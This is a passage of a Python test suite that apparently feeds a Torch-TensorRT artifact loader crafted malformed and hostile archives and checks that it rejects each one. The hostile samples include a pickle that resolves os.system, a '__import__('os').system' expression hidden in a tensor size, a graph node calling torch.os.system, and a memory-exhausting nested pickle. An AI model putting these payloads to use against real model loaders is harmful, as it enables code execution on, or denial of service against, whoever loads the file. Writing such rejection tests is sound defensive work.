        first["base64"], second["base64"] = second["base64"], first["base64"]

    Handmade(engines=[plan(b"a"), plan(b"b")], edit_manifest=swap).write(path)


@attack(MalformedArtifactError)
def digests_swapped_within_the_file(path: Path) -> None:
    def swap(manifest: dict[str, Any]) -> None:
        first, second = manifest["engines"]
        first["sha256"], second["sha256"] = second["sha256"], first["sha256"]

    Handmade(engines=[plan(b"a"), plan(b"b")], edit_manifest=swap).write(path)


many(
    MalformedArtifactError,
    "plan",
    {
        "is_no_plan": lambda path: Handmade(engines=[b"x" * 100]).write(path),
        "is_empty": lambda path: Handmade(engines=[b""]).write(path),
        "is_truncated": lambda path: Handmade(engines=[plan()[:40]]).write(path),
        "says_another_size": lambda path: Handmade(engines=[plan() + b"more"]).write(path),
        "is_of_tensorrt": lambda path: Handmade(engines=[b"ftrt" + plan()[4:]]).write(path),
    },
)


def _field_list(change: Callable[[list[Any]], Any]) -> Callable[[Path], Any]:
    return _with_graph(lambda graph: change(graph["graph_module"]["graph"]["nodes"][0]["inputs"]))


many(
    MalformedArtifactError,
    "fields",
    {
        "too_few": _field_list(lambda fields: fields.pop()),
        "too_many": _field_list(lambda fields: fields.append(fields[-1])),
        "nothing_but_the_engine": _field_list(lambda fields: fields.__delitem__(slice(6, None))),
        "no_tensors": _field_list(lambda fields: fields[0].update(arg={"as_int": 1})),
        "a_number": _field_list(lambda fields: fields[7].update(arg={"as_string": 1})),
        "of_another_abi": _with_fields(abi_version="6"),
        "of_no_abi": _with_fields(abi_version="9" * 5000),
        "of_another_numeral": _with_fields(abi_version="\uff11\uff10"),
        "device": _with_fields(device="0%8%0"),
        "device_number": _with_fields(device="9" * 5000 + "%8%0%0%x"),
        "flag": _with_fields(hardware_compatible="yes"),
        "binding_with_alias": _with_fields(input_binding_names="x@y"),
        "alias": _with_fields(aliased_io="a@b"),
        "platform": _with_fields(target_platform="win_x86_64"),
    },
)


@attack(MalformedArtifactError)
def placeholder_hidden_from_the_manifest(path: Path) -> None:
    made = Handmade()
    node = json.loads(json.dumps(made.nodes[0]))
    node["inputs"][1 + ENGINE_FIELD]["arg"]["as_string"] = base64.b64encode(plan()).decode()
    made.nodes.append(node)
    made.write(path)


# --- golden -----------------------------------------------------------------------------------------------------

many(
    MalformedArtifactError,
    "golden",
    {
        "wrong_dtype": lambda path: Handmade(golden=golden("F16")).write(path),
        "wrong_shape": lambda path: Handmade(golden=golden(shape=(2,))).write(path),
        "other_rank": lambda path: Handmade(golden=golden(shape=(1, 1))).write(path),
        "huge_header": lambda path: Handmade(golden=struct.pack("<Q", 2**63) + golden()[8:]).write(path),
        "no_header": lambda path: Handmade(golden=b"abc").write(path),
        "header_is_a_pickle": lambda path: Handmade(golden=struct.pack("<Q", len(PICKLE)) + PICKLE).write(path),
        "many_samples": lambda path: Handmade(edit_manifest=lambda m: m["golden"].update(samples=10**15)).write(path),
    },
)

# --- no file ----------------------------------------------------------------------------------------------------

many(
    UsageError,
    "path",
    {
        "is_missing": lambda path: None,
        "is_a_folder": lambda path: path.mkdir(),
        **({"is_a_pipe": lambda path: os.mkfifo(path)} if hasattr(os, "mkfifo") else {}),
    },
)


@attack(MalformedArtifactError)
def plain_program(path: Path) -> None:
    path.write_bytes(archive([(GRAPH_ENTRY, b'{"graph_module": {}}'), ("archive_format", b"pt2")]))


@attack(MalformedArtifactError)
def foreign_program(path: Path) -> None:
    made, buffer = Handmade(), io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as file:
        file.writestr(f"model/{GRAPH_ENTRY}", json.dumps(made.graph))
    path.write_bytes(buffer.getvalue())


# --- saved by Torch-TensorRT itself, or made to look so ----------------------------------------------------------


def _foreign_graph(change: Callable[[dict[str, Any]], Any]) -> Callable[[Path], Any]:
    def write(path: Path) -> None:
        made = Foreign()
        graph = made.text()
        change(graph)
        made.write(path, json.dumps(graph).encode())

    return write


def _foreign_metadata(data: bytes) -> Callable[[Path], Any]:
    return lambda path: Foreign(info=replace(engine_info(), metadata=_pickle_text(data))).write(path)


def _grown(depth: int) -> bytes:
    """Pickles lists that each hold the next one twice, ``depth`` deep: few bytes, and more values than fit memory."""
    value: list[Any] = []
    for _ in range(depth):
        value = [value, value]
    return pickle.dumps({"inout_symexprs": value}, protocol=4)


def _foreign_spec() -> str:
    leaf: dict[str, Any] = {"type": None, "context": None, "children_spec": []}
    inner = {**json.loads(enum_spec("os:X"))[1], "children_spec": [leaf]}
    args = {"type": "builtins.tuple", "context": "null", "children_spec": [inner]}
    kwargs = {"type": "builtins.dict", "context": "[]", "children_spec": []}
    return json.dumps([1, {"type": "builtins.tuple", "context": "null", "children_spec": [args, kwargs]}])


def _foreign_size(graph: dict[str, Any], text: str) -> None:
    tensor = graph["graph_module"]["graph"]["tensor_values"]["x"]
    graph["graph_module"]["graph"]["tensor_values"]["x"] = {**tensor, "sizes": [{"as_expr": {"expr_str": text}}]}


many(
    UntrustedError,
    "foreign",
    {
        "sample_inputs": lambda path: Foreign(entries={"data/sample_inputs/model.pt": PICKLE}).write(path),
        "metadata": _foreign_metadata(PICKLE),
        "metadata_that_grows": _foreign_metadata(_grown(50)),
        "metadata_settings_of_another_class": _foreign_metadata(b"\x80\x04\x8c\x02os\x8c\x06system\x93)\x81."),
        "weights": lambda path: Foreign(
            entries={
                "data/weights/weight_0": PICKLE,
                "data/weights/model_weights_config.json": json.dumps(
                    {"config": {"w": {"path_name": "weight_0", "use_pickle": True}}}
                ).encode(),
            }
        ).write(path),
        "compiled_code": lambda path: Foreign(entries={"data/aotinductor/model.so": b"ELF"}).write(path),
        "sympy_import": _foreign_graph(lambda graph: _foreign_size(graph, "__import__('os').system('true')")),
        "call_imports_a_module": lambda path: Foreign(in_spec=_foreign_spec()).write(path),
        "calls_os_system": _foreign_graph(
            lambda graph: graph["graph_module"]["graph"]["nodes"].append({"target": "torch.os.system", "inputs": []})
        ),
    },
)
many(
    MalformedArtifactError,
    "foreign",
    {
        "engines_beyond_count": lambda path: Foreign().write(path, b"[" + b'"dnRydAAA",' * 200_000 + b"1]"),
        "engine_outside_of_a_node": _foreign_graph(lambda graph: graph.update(extra="dnRydAAA")),
        "engine_without_an_end": lambda path: Foreign().write(path, b'{"a":"dnRydAAA' + b"A" * 2**20),
        "fields_too_few": lambda path: Foreign(fields_left_out=1).write(path),
        "graph_of_nothing_but_text": lambda path: Foreign().write(
            path, b'["' + b"A" * (FOREIGN_GRAPH.size + 2**20) + b'"]'
        ),
        "name_that_turns_the_line": _foreign_graph(
            lambda graph: graph["graph_module"]["graph"]["nodes"][0].update(name="\u202eabc")
        ),
    },
)
